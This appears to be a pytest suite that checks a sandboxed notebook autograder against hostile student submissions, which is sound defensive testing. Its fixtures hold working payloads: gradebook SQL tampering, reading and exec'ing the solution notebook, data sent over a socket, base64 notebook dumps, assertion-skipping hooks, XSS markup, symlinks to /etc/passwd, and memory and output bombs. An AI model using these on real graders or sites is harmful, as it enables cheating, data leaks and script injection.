"""Hostile submissions, graded by `make grade`'s own command in a temporary copy of the course.

Every hostile student answers Exercise 1 of 01_perceptron honestly (2 points) and carries one
attack in the other answer cells; each must score exactly its honest part, the rest of the
class must still be graded, and nothing outside the submission's sandbox may change. These
attacks all worked before grading was sandboxed and judged (see the closing note of issue 11).
Needs bubblewrap (`apt-get install bubblewrap`); skipped with that reason otherwise.
"""

import base64
import hashlib
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import pytest
from ports import free_port

from course_grader import variants as grader_variants
from course_grader.cells import (
    BEGIN_SOLUTION,
    END_SOLUTION,
    hidden_test_lines,
    replace_regions,
)
from course_lib.checking.variants import Variant

ROOT = Path(__file__).resolve().parents[2]
FIRST, SECOND = "01_perceptron", "02_activations_softmax"
pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None,
                                reason="bubblewrap not installed: apt-get install bubblewrap")
MARK = uuid.uuid4().hex[:10]
TMP_MARK = Path(f"/tmp/hostile-{MARK}")


def _src(cell):
    return "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]


def _solved(source):
    return replace_regions(source, BEGIN_SOLUTION, END_SOLUTION,
                           lambda lines, _: [ln for ln in lines if "# WRONG:" not in ln])


def _load(path):
    return json.loads(Path(path).read_text())


def _answers(course, folder, **sources):
    """The release of ``folder`` with the given answer cells (grade_id -> source)."""
    nb = _load(course / "release" / folder / f"{folder}.ipynb")
    for cell in nb["cells"]:
        gid = cell["metadata"].get("nbgrader", {}).get("grade_id")
        if gid in sources:
            cell["source"] = sources[gid]
    return nb


def _solution(folder, grade_id):
    nb = _load(ROOT / "notebooks" / folder / f"{folder}.ipynb")
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == grade_id:
            return _solved(_src(cell))
    raise KeyError(grade_id)


def _copied_answers(student, gate_weights):
    """01's value answers of ``student``, in numbers: what a classmate would pass around."""
    theirs = Variant(FIRST, student)
    mine = Variant(FIRST, "copier")
    for exercise in ("truth_table", "gate"):  # the copy must be wrong for the copier
        assert (grader_variants.expected(theirs, exercise)
                != grader_variants.expected(mine, exercise)), exercise
    weights = gate_weights(grader_variants.expected(theirs, "gate")["gate_table"])
    tables = grader_variants.expected(theirs, "truth_table")
    return {"truth_table_h": f"truth_table_h = {tables['truth_table_h']!r}\n"
                             f"step_table_h = {tables['step_table_h']!r}\n",
            "gate_weights": f"gate_weights = {weights!r}\n"}


def _hand_in(course, student, folder, nb):
    dest = course / "submitted" / student / folder
    dest.mkdir(parents=True, exist_ok=True)
    text = nb if isinstance(nb, str) else json.dumps(nb)
    (dest / f"{folder}.ipynb").write_text(text)


def _tree_digest(folder, skip=()):
    """Every file's hash (a link's target, a large file's length), never following a link."""
    digest = {}
    for path in sorted(Path(folder).rglob("*")):
        rel = path.relative_to(folder)
        if any(rel.parts[0] == s for s in skip):
            continue
        if path.is_symlink():
            digest[str(rel)] = f"-> {os.readlink(path)}"
        elif path.is_file():
            size = path.stat().st_size
            digest[str(rel)] = f"{size} bytes" if size > 2**24 else \
                hashlib.sha256(path.read_bytes()).hexdigest()
    return digest


def _attacks(course, port):
    """student -> (answer cells, expected score). Exercise 1 is answered right in each."""
    honest = _solution(FIRST, "truth_table_h")
    root = str(course)
    solution_path = f"{root}/notebooks/{FIRST}/{FIRST}.ipynb"
    attacks = {
        "exec_solution": (
            "import json, os\n"
            f"for path in [{solution_path!r}, '../../../notebooks/{FIRST}/{FIRST}.ipynb']:\n"
            "    try:\n"
            "        nb = json.load(open(path))\n"
            "    except OSError:\n"
            "        continue\n"
            "    for c in nb['cells']:\n"
            "        if 'BEGIN SOLUTION' in ''.join(c['source']):\n"
            "            exec(''.join(c['source']))\n"),
        "gradebook_sql": (
            "import sqlite3\n"
            f"db = sqlite3.connect({root + '/gradebook.db'!r})\n"
            "db.execute('UPDATE grade SET manual_score = 100')\n"
            "db.commit()\n"),
        "write_outside": (
            f"for p in [{root + '/pwned.txt'!r}, {str(TMP_MARK)!r}, "
            f"{os.path.expanduser('~/hostile-' + MARK)!r}, '../../pwned.txt']:\n"
            "    try:\n"
            "        open(p, 'w').write('pwned')\n"
            "    except OSError:\n"
            "        pass\n"),
        "network": (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'leak')\n"
            "except OSError:\n"
            "    pass\n"),
        "input_transformer": (
            "def _skip(lines):\n"
            "    text = ''.join(lines)\n"
            "    return ['pass\\n'] if ('assert' in text or 'require_answer' in text) else lines\n"
            "get_ipython().input_transformers_cleanup.append(_skip)\n"),
        "patch_numpy": (
            "import builtins, numpy as np\n"
            "np.array_equal = lambda *a, **k: True\n"
            "np.allclose = lambda *a, **k: True\n"
            "builtins.zip = lambda *a, **k: iter([])\n"
            "gate_weights = (0, 0, 0)\n"),  # always 1: wrong for every gate
        "flood": "print('x' * 50_000_000)\n",
        "memory": "import numpy as np\nbig = np.ones(4 * 2**30, dtype=np.uint8)\n",
        "leak_b64": (
            "import base64, glob\n"
            "print(base64.b64encode(repr(In).encode()).decode())\n"
            "for f in glob.glob('/**/*.ipynb', recursive=True)[:50]:\n"
            "    print(base64.b64encode(open(f, 'rb').read()).decode())\n"),
    }
    attacks["xss"] = (  # markup and script for the instructor's formgrader and the feedback
        "# ### BEGIN HIDDEN TESTS (marker text in an answer must not stop its feedback)\n"
        "from IPython.display import HTML, SVG, Javascript, display\n"
        "display(HTML('<img src=x onerror=\"window.__pwned = 1\"><script>window.__pwned = 2'"
        "'</script>'))\n"
        "display(Javascript('window.__pwned = 3'))\n"
        "display(SVG('<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.__pwned = 4\">'"
        "'<script>window.__pwned = 5</script></svg>'))\n"
        "display({'image/png': 'AAAA\" onerror=\"window.__pwned = 6', 'text/plain': 'img'}, "
        "raw=True)\n")
    subs = {name: ({"truth_table_h": honest, "gate_weights": code}, 2)
            for name, code in attacks.items()}
    layer = _solution(FIRST, "layer_forward")
    subs["kill_kernel"] = ({"truth_table_h": honest, "gate_weights": "import os\nos._exit(0)\n",
                            "layer_forward": layer}, 5)
    subs["loop"] = ({"truth_table_h": honest, "gate_weights": "while True:\n    pass\n",
                     "layer_forward": layer}, 5)
    return subs


def _hostile_folder(course, folder):
    """What a student can put in a submission folder besides the notebook."""
    os.symlink(course / "notebooks", folder / "notebooks")
    os.symlink(course / "gradebook.db", folder / "gradebook.db")
    os.symlink("/etc/passwd", folder / "passwd")
    os.symlink(course / "submitted" / "honest" / FIRST / f"{FIRST}.ipynb", folder / "theirs")
    os.symlink("/dev/zero", folder / "zero")
    os.mkfifo(folder / "pipe")
    with open(folder / "sparse.bin", "wb") as f:
        f.truncate(2**30)  # 1 GiB of length, no disk


@pytest.fixture(scope="module")
def graded(tmp_path_factory, gate_weights, copy_released_course):
    course = copy_released_course(tmp_path_factory.mktemp("hostile") / "course")
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ['PATH']}",
               COURSE_CELL_TIMEOUT="15", COURSE_QUICK="1")
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(5)
    server.settimeout(0.5)
    accepted = []

    def listen():
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=listen, daemon=True)
    thread.start()

    source = _load(course / "notebooks" / FIRST / f"{FIRST}.ipynb")
    _hand_in(course, "honest", FIRST, source)
    _hand_in(course, "blank", FIRST, _load(course / "release" / FIRST / f"{FIRST}.ipynb"))
    total = sum(c["metadata"]["nbgrader"].get("points", 0) for c in source["cells"]
                if c["metadata"].get("nbgrader", {}).get("grade") and c["cell_type"] == "code")
    expected = {("honest", FIRST): total, ("blank", FIRST): 0}
    for student, (cells, score) in _attacks(course, server.getsockname()[1]).items():
        _hand_in(course, student, FIRST, _answers(course, FIRST, **cells))
        expected[(student, FIRST)] = score
    # the structure of the notebook broken in every way nbgrader trips over
    broken = _answers(course, FIRST, truth_table_h=_solution(FIRST, "truth_table_h"))
    broken["metadata"]["kernelspec"] = {"name": "evil", "display_name": "evil", "language": "x"}
    dup = json.loads(json.dumps([c for c in broken["cells"]
                                 if c["metadata"].get("nbgrader", {}).get("solution")][1]))
    broken["cells"].append(dup)
    for cell in broken["cells"]:
        nbg = cell["metadata"].get("nbgrader", {})
        nbg.pop("checksum", None)
        if nbg.get("grade") and not nbg.get("solution"):
            nbg.update(locked=False, grade=False)
            cell["source"] = "pass"
    _hand_in(course, "metadata", FIRST, broken)
    expected[("metadata", FIRST)] = 2
    _hand_in(course, "invalid_json", FIRST,
             '{"cells": [], "metadata": ' + "[" * 100_000 + "]" * 100_000 + "}")
    _hostile_folder(course, course / "submitted" / "network" / FIRST)
    for name in ("bad name<img src=x onerror=alert(1)>", "linked"):  # refused, listed
        (course / "submitted" / name).mkdir()
    (course / "submitted" / "bad name<img src=x onerror=alert(1)>" / FIRST).mkdir()
    os.rmdir(course / "submitted" / "linked")
    os.symlink(course / "submitted" / "honest", course / "submitted" / "linked")
    expected[("invalid_json", FIRST)] = 0
    # a classmate's numbers: "copier" hands in "honest"'s answers to 01's value exercises
    _hand_in(course, "copier", FIRST, _answers(course, FIRST, **_copied_answers("honest",
                                                                           gate_weights)))
    expected[("copier", FIRST)] = 0
    # 02: the function exercises answered with course_lib's own functions
    library = {
        "softmax_stable": "from course_lib.losses import softmax\n",
        "cross_entropy_mean": "from course_lib import cross_entropy\n",
        "one_hot_encode": "def one_hot(labels, k):\n    from course_lib.losses import one_hot "
                          "as real\n    return real(labels, k)\n",
    }
    _hand_in(course, "library", SECOND, _answers(course, SECOND, **library))
    expected[("library", SECOND)] = None  # checked per cell below

    before = _tree_digest(course, skip=("autograded", "feedback", "build", "gradebook.db",
                                        "grades.csv", ".pytest_cache"))
    proc = subprocess.run([sys.executable, "-m", "course_grader", "grade"], cwd=course,
                          env=env, capture_output=True, text=True, timeout=1800)
    stop.set()
    after = _tree_digest(course, skip=("autograded", "feedback", "build", "gradebook.db",
                                       "grades.csv", ".pytest_cache"))
    from nbgrader.api import Gradebook

    scores, cells = {}, {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
        for sub in gb.assignment_submissions(FIRST) + gb.assignment_submissions(SECOND):
            scores[(sub.student.id, sub.assignment.name)] = sub.score
            for nb in sub.notebooks:
                for grade in nb.grades:
                    cells[(sub.student.id, grade.name)] = (grade.score, grade.manual_score)
    yield {"course": course, "proc": proc, "scores": scores, "cells": cells,
           "expected": expected, "before": before, "after": after, "accepted": accepted}
    TMP_MARK.unlink(missing_ok=True)


def _report(g):
    return f"\nmake grade said:\n{g['proc'].stdout[-4000:]}\n{g['proc'].stderr[-2000:]}"


def test_every_submission_scores_only_its_honest_part(graded):
    for (student, folder), want in graded["expected"].items():
        if want is None:
            continue
        got = graded["scores"].get((student, folder))
        assert got == want, f"{student}/{folder}: {got} points, expected {want}" + _report(graded)


def test_library_answers_score_nothing(graded):
    for grade_id in ("softmax_stable_test", "cross_entropy_mean_test", "one_hot_encode_test"):
        score, _ = graded["cells"][("library", grade_id)]
        assert score == 0, f"{grade_id}: course_lib's own function scored {score}"


def test_nothing_outside_the_sandbox_changed(graded):
    assert graded["before"] == graded["after"], "files of the course changed during grading"
    course = graded["course"]
    assert not (course / "pwned.txt").exists() and not (course.parent / "pwned.txt").exists()
    assert not TMP_MARK.exists(), "a submission wrote into the grader's /tmp"
    assert not Path(os.path.expanduser(f"~/hostile-{MARK}")).exists()
    assert not graded["accepted"], "a submission opened a connection to 127.0.0.1"
    assert all(manual is None for _, manual in graded["cells"].values()), \
        "a submission changed manual scores in the gradebook"


def test_broken_submissions_are_listed_for_a_person(graded):
    out = graded["proc"].stdout
    assert graded["proc"].returncode == 1, _report(graded)
    for student, reason in [("invalid_json", "not a valid notebook.*nests 100001 levels"),
                            ("network", "skipped notebooks: a symbolic link"),
                            ("network", "skipped passwd: a symbolic link"),
                            ("network", "skipped zero: a symbolic link"),
                            ("network", "skipped pipe: a named pipe"),
                            ("network", "skipped sparse.bin: 1073.7 MB, over the"),
                            ("linked", "not graded: the submission is a link"),
                            ("bad name<img src=x onerror=alert\\(1\\)>",
                             "not graded: the folder's name is not a student id"),
                            ("metadata", "appears more than once"),
                            ("metadata", "was changed"), ("kill_kernel", "died"),
                            ("loop", "skipped")]:
        assert re.search(rf"{student}\s+{FIRST}\s+.*{reason}", out), \
            f"{student}: '{reason}' not reported" + _report(graded)
    assert "honest" not in out.split("need a person")[-1], "the honest student was flagged"
    rows = (graded["course"] / "grades.csv").read_text().splitlines()[1:]
    exported = {(r.split(",")[3], r.split(",")[0]) for r in rows}
    assert set(graded["expected"]) <= exported, "grades.csv misses graded submissions"


def test_a_classmates_numbers_score_nothing_and_the_feedback_names_mine(graded):
    for grade_id in ("truth_table_h_test", "step_table_h_test", "gate_weights_test"):
        score, _ = graded["cells"][("copier", grade_id)]
        assert score == 0, f"{grade_id}: a classmate's answer scored {score}"
    feedback = graded["course"] / "feedback" / "copier" / FIRST / f"{FIRST}.html"
    text = feedback.read_text()
    assert "Your numbers (student &#39;copier&#39;)" in text or \
        "Your numbers (student 'copier')" in text, "the feedback does not name the numbers"
    assert "student &#39;honest&#39;" not in text and "student 'honest'" not in text


def test_output_is_capped_and_hidden_tests_never_leak(graded):
    course = graded["course"]
    hidden = hidden_test_lines(_load(course / "notebooks" / FIRST / f"{FIRST}.ipynb"))
    assert hidden
    for student in ("flood", "leak_b64"):
        for path in [course / "autograded" / student / FIRST / f"{FIRST}.ipynb",
                     course / "feedback" / student / FIRST / f"{FIRST}.html"]:
            assert path.stat().st_size < 3_000_000, f"{path} is {path.stat().st_size} bytes"
            text = path.read_text()
            for blob in re.findall(r"[A-Za-z0-9+/=]{40,}", text):
                try:
                    text += base64.b64decode(blob + "==").decode("utf-8", "ignore")
                except ValueError:
                    pass
            flat = " ".join(text.split())
            leaked = [line for line in hidden if line in flat]
            assert not leaked, f"{path} shows hidden tests: {leaked[:3]}"


def test_memory_is_limited(graded):
    nb = _load(graded["course"] / "autograded" / "memory" / FIRST / f"{FIRST}.ipynb")
    errors = [o.get("ename") for c in nb["cells"] for o in c.get("outputs", [])
              if o.get("output_type") == "error"]
    assert "MemoryError" in errors, f"a 4 GiB allocation succeeded: errors {errors}"


def test_links_and_devices_of_a_folder_reach_nothing(graded):
    course = graded["course"]
    for where in ("autograded", "feedback"):
        names = sorted(p.name for p in (course / where / "network" / FIRST).iterdir())
        assert names == [f"{FIRST}.{'ipynb' if where == 'autograded' else 'html'}"], names
    text = (course / "autograded" / "network" / FIRST / f"{FIRST}.ipynb").read_text()
    assert "root:x:0:0" not in text


def test_script_outputs_are_inert_in_the_graded_notebook(graded):
    nb = _load(graded["course"] / "autograded" / "xss" / FIRST / f"{FIRST}.ipynb")
    kinds = {kind for cell in nb["cells"] for out in cell.get("outputs", [])
             for kind in out.get("data", {})}
    assert kinds <= {"text/plain", "image/png", "image/jpeg", "image/gif"}, kinds
    assert "__pwned" not in json.dumps([c.get("outputs", []) for c in nb["cells"]])


def test_gradebook_is_still_consistent(graded):
    db = sqlite3.connect(graded["course"] / "gradebook.db")
    assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"


# ---------------------------------------------------------------- the instructor's browser

CHROMIUM = shutil.which("chromium")
WRITTEN = ("My explanation <script>window.__pwned = 7</script> "
           "<img src=x onerror=\"window.__pwned = 8\"> [details](javascript:window.__pwned=9) "
           "<iframe src=\"javascript:parent.__pwned = 10\"></iframe>")


@pytest.fixture(scope="module")
def formgrader(graded):
    """The course's own Jupyter server (formgrader and guard, as `make lab` runs them) on the
    graded hostile class; xss's graded notebook also gets a Markdown cell with script, as a
    written answer (07's explain_overfitting) would hold, and its feedback is generated again
    with it."""
    if CHROMIUM is None:
        pytest.skip("chromium not installed: apt-get install chromium")
    course = graded["course"]
    path = course / "autograded" / "xss" / FIRST / f"{FIRST}.ipynb"
    nb = _load(path)
    nb["cells"].insert(2, {"cell_type": "markdown", "id": "written-answer", "source": WRITTEN,
                           "metadata": {}})
    path.write_text(json.dumps(nb))
    env = dict(os.environ, PATH=f"{Path(sys.executable).parent}:{os.environ['PATH']}")
    subprocess.run([sys.executable, "-m", "nbgrader", "generate_feedback", FIRST, "--student",
                    "xss", "--force"], cwd=course, env=env, check=True, capture_output=True)
    port, token = free_port(), uuid.uuid4().hex
    server = subprocess.Popen(
        [str(Path(sys.executable).parent / "jupyter"), "server", "--no-browser",
         "--allow-root", f"--port={port}", "--ip=127.0.0.1", f"--IdentityProvider.token={token}",
         f"--ServerApp.root_dir={course}"], cwd=course, env=env, stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL, start_new_session=True)
    try:
        for _ in range(120):
            try:
                socket.create_connection(("127.0.0.1", port), timeout=1).close()
                break
            except OSError:
                threading.Event().wait(0.25)
        from nbgrader.api import Gradebook

        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gb:
            sub_id = gb.find_submission_notebook(FIRST, FIRST, "xss").id
        yield {"url": f"http://127.0.0.1:{port}", "token": token, "id": sub_id,
               "feedback": course / "feedback" / "xss" / FIRST / f"{FIRST}.html"}
    finally:
        os.killpg(server.pid, 9)
        server.wait()


# run in its own process: the browser suite's session keeps an asyncio loop in this one, and
# Playwright's sync API refuses to start inside it
BROWSE = """
import json, sys
from playwright.sync_api import sync_playwright

chromium, page_url, feedback_url = sys.argv[1:4]
seen = {}
with sync_playwright() as pw:
    browser = pw.chromium.launch(executable_path=chromium,
                                 args=["--no-sandbox", "--disable-dev-shm-usage"])
    page = browser.new_page()
    for key, url in (("formgrader", page_url), ("feedback", feedback_url)):
        page.goto(url, wait_until="load")
        page.wait_for_timeout(1500)  # an onerror fires after the image fails
        seen[key] = {"pwned": page.evaluate("window.__pwned"),
                     "written": "My explanation" in page.content(),
                     "own_scripts": page.evaluate("typeof $ === 'function' && "
                                                  "typeof submission_id === 'string'")}
    browser.close()
print(json.dumps(seen))
"""


def test_no_script_of_a_student_runs_in_the_formgrader_or_the_feedback(formgrader):
    page = (f"{formgrader['url']}/formgrader/submissions/{formgrader['id']}/"
            f"?token={formgrader['token']}")
    proc = subprocess.run([sys.executable, "-c", BROWSE, CHROMIUM, page,
                           formgrader["feedback"].as_uri()],
                          capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr[-3000:]
    seen = json.loads(proc.stdout.strip().splitlines()[-1])
    assert seen["formgrader"]["written"], "the written answer is not shown"
    assert seen["formgrader"]["own_scripts"], "the formgrader's own scripts did not run"
    assert seen["formgrader"]["pwned"] is None, \
        f"a student's script ran in the formgrader ({seen['formgrader']['pwned']})"
    assert seen["feedback"]["written"]
    assert seen["feedback"]["pwned"] is None, "a student's script ran in the feedback"
